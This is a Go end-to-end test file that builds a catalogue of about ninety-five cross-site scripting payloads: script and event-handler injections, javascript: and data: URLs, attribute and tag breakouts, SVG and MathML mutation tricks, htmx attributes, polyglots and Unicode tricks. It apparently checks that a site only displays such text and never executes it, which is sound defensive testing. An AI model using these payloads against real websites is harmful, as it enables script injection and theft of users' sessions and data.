package e2e_test

import (
	"fmt"
	"strconv"
	"strings"
)

// hostile is a text that a page must only ever show. In it, XSS stands for a call that the browser reports, BEACON for an
// address that nothing of ours asks for, and NUMBER for the text's own number.
type hostile struct {
	kind string
	text string
	// quiet texts do nothing in this browser, even where they stand unescaped: they were made for others, or for readers.
	quiet bool
}

// write gives the text its number, so that a report says which it was.
func (h hostile) write(n int) string {
	return strings.NewReplacer("XSS", fmt.Sprintf("__xss(%d)", n), "BEACON", fmt.Sprintf("/beacon/%d", n), "NUMBER", strconv.Itoa(n)).Replace(h.text)
}

// payloads are all of them, with their numbers in.
func payloads() []string {
	all := make([]string, len(attacks))
	for n, h := range attacks {
		all[n] = h.write(n)
	}
	return all
}

var attacks = []hostile{
	// Elements that run or load something.
	{"script", `<script>XSS</script>`, false},
	{"script, in capitals and with spaces", "<ScRiPt\n>XSS</sCrIpT\t>", false},
	{"script from an address", `<script src=BEACON></script>`, false},
	{"script from another host", `<script src=//xss.invalidBEACON></script>`, false},
	{"script of an unknown kind beside one that is known", `<script type=text/template></script><script type=module>XSS</script>`, false},
	{"script in a script", `<scr<script>ipt>XSS</scr</script>ipt><script>XSS</script>`, false},
	{"image", `<img src=x onerror=XSS>`, false},
	{"image without spaces", `<img/src/onerror=XSS>`, false},
	{"image with entities in its handler", `<img src=x onerror=&#95;&#x5f;xss(NUMBER)>`, false},
	{"image from elsewhere", `<img src=BEACON>`, false},
	{"svg", `<svg onload=XSS>`, false},
	{"svg with a script", `<svg><script>XSS</script></svg>`, false},
	{"svg with entities in its script", `<svg><script>&#95;&#95;xss(NUMBER)</script>`, false},
	{"svg that animates its address", `<svg><a><animate attributeName=href values=javascript:XSS /><text x=20 y=20>x</text></a></svg>`, false},
	{"svg that begins", `<svg><animate onbegin=XSS attributeName=x dur=1s>`, false},
	{"svg with html in it", `<svg><foreignObject><iframe srcdoc="<script>XSS</script>"></iframe></foreignObject></svg>`, false},
	{"math", `<math><a href="javascript:XSS">x</a></math>`, false},
	{"math that becomes html", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=XSS&gt;"><img src=1 onerror=XSS>`, false},
	{"frame", `<iframe src="javascript:XSS"></iframe>`, false},
	{"frame with its own document", `<iframe srcdoc="<img src=x onerror=XSS>"></iframe>`, false},
	{"frame with an encoded document", `<iframe srcdoc="&lt;script&gt;XSS&lt;/script&gt;"></iframe>`, false},
	{"object", `<object data=BEACON></object>`, false},
	{"embed", `<embed src=BEACON>`, false},
	{"video", `<video><source onerror=XSS src=x></video>`, false},
	{"audio", `<audio src=x onerror=XSS>`, false},
	{"details", `<details open ontoggle=XSS><summary>x</summary></details>`, false},
	{"input that takes the focus", `<input autofocus onfocus=XSS>`, false},
	{"element under the mouse", `<b onmouseover=XSS>x</b>`, false},
	{"element that is clicked", `<b onclick=XSS>x</b>`, false},
	{"animation that begins", `<style>@keyframes x{}</style><b style="animation-name:x;animation-duration:1s" onanimationstart=XSS>x</b>`, false},
	{"marquee", `<marquee onmouseover=XSS>x</marquee>`, false},
	{"dialog", `<img src=x onerror=alert(XSS)>`, false},

	// What changes the page around it.
	{"base", `<base href=//xss.invalid/><img src=x>`, false},
	{"refresh", `<meta http-equiv=refresh content="0;url=BEACON">`, false},
	{"refresh to a script", `<meta http-equiv="refresh" content="0;url=data:text/html,<script>XSS</script>">`, false},
	{"form", `<form action=BEACON><button>x</button></form>`, false},
	{"form with a script", `<form action=javascript:XSS><button>x</button></form>`, false},
	{"button of another form", `<form id=xf></form><button form=xf formaction=javascript:XSS>x</button>`, false},
	{"style sheet", `<link rel=stylesheet href=BEACON>`, false},
	{"style", `<style>@import "BEACON";</style>`, false},
	{"style that asks", `<style>body{background:url(BEACON)}</style>`, false},
	{"style that computes", `<b style="width:expression(XSS)">x</b>`, true},
	{"style that binds", `<b style="-moz-binding:url(BEACON);behavior:url(BEACON)">x</b>`, true},
	{"preload", `<link rel=preload as=image href=BEACON>`, false},
	{"picture of a size", `<img srcset="BEACON 1x">`, false},
	{"dangling markup", `<img src='BEACON?`, false},

	// Out of where it stands.
	{"out of double quotes", `"><img src=x onerror=XSS>`, false},
	{"out of single quotes", `'><img src=x onerror=XSS>`, false},
	{"out of no quotes", `x onmouseover=XSS x=`, false},
	{"a handler behind double quotes", `" autofocus onfocus=XSS onmouseover=XSS x="`, false},
	{"a handler behind single quotes", `' autofocus onfocus=XSS onmouseover=XSS x='`, false},
	{"a handler behind backquotes", "` onmouseover=XSS x=`", false},
	{"out of a text area", `</textarea><script>XSS</script>`, false},
	{"out of the title", `</title><script>XSS</script>`, false},
	{"out of a script", `</script><script>XSS</script>`, false},
	{"out of a style", `</style><script>XSS</script>`, false},
	{"out of a comment", `--><script>XSS</script><!--`, false},
	{"out of noscript", `<noscript><p title="</noscript><img src=x onerror=XSS>">`, false},
	{"out of a select", `</option></select><img src=x onerror=XSS>`, false},
	{"out of a template", `<template><style><a title="</style></template><img src=x onerror=XSS>">`, false},
	{"out of a text in a script", `";XSS;"`, false},
	{"out of a text in a script, by its other quote", `';XSS;'`, false},
	{"never closed", `<img src=x onerror=XSS x="`, false},
	{"never closed either", `<svg onload="XSS" x=`, false},
	{"a comment that is never closed", `<!--<img src="--><img src=x onerror=XSS>`, false},

	// Addresses.
	{"javascript", `javascript:XSS`, false},
	{"javascript in capitals, behind a control character", "\x01JaVaScRiPt:XSS", false},
	{"javascript with a line in it", "java\nscript:XSS", false},
	{"javascript with a tab in it", "java\tscript:XSS", false},
	{"javascript with entities", `&#106;avascript&colon;XSS`, false},
	{"javascript behind a path that is ours", `https://www.upwork.com/jobs/~01?x=javascript:XSS#"><svg onload=XSS>`, false},
	{"javascript as a host", `javascript://www.upwork.com/%0aXSS`, false},
	{"data", `data:text/html,<script>XSS</script>`, false},
	{"vbscript", `vbscript:XSS`, false},
	{"another site's address", `//xss.invalidBEACON`, false},
	{"another site behind a name that is not its", `https://www.upwork.com@xss.invalidBEACON`, true},
	{"Markdown", `[x](javascript:XSS) ![x](BEACON) <javascript:XSS>`, true},

	// For libraries, and for readers that are no browsers.
	{"htmx, get", `<b hx-get=BEACON hx-trigger=load>x</b>`, false},
	{"htmx, get by its data attribute", `<b data-hx-get=BEACON data-hx-trigger=load>x</b>`, false},
	{"htmx, on", `<b hx-on:click=XSS hx-on::load=XSS>x</b>`, false},
	{"htmx, values", `<b hx-get=BEACON hx-trigger=load hx-vals='js:{x:XSS}'>x</b>`, false},
	{"a template's braces", `{{constructor.constructor('XSS')()}} ${XSS} #{XSS} <%= XSS %> @{XSS}`, true},
	{"a format", `%s %d %!s(MISSING) $1 \1 {0}`, true},
	{"a formula", `=HYPERLINK("javascript:XSS","x")`, true},
	{"UTF-7", `+ADw-script+AD4-XSS+ADw-/script+AD4-`, true},
	{"letters of double width", `＜script＞XSS＜/script＞`, true},
	{"an encoded one", `%3Cscript%3EXSS%3C/script%3E &lt;script&gt;XSS&lt;/script&gt; \u003cscript\u003eXSS\u003c/script\u003e`, true},
	{"a polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=XSS )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=XSS//>\\x3e", false},
	{"text that turns around", "\u202e>tpircs/<XSS>tpircs<\u202c \u2066x\u2069 \u200f", true},
	{"letters that look alike", "Aсme ехаmрlе аdmіn \u0430\u0435\u043e", true},
	{"nothing to see", "\u200b\u200c\u200d\ufeff\u2060", true},
	{"odd spaces", "<img\u00a0src=x\u3000onerror=XSS\u2028>", true},
	{"null characters", "<scr\x00ipt>XSS</scr\x00ipt><img src=x onerror\x00=XSS>", true},
	{"spaces of a tag", "<img\fsrc=x\ronerror=XSS\f>", false},
}
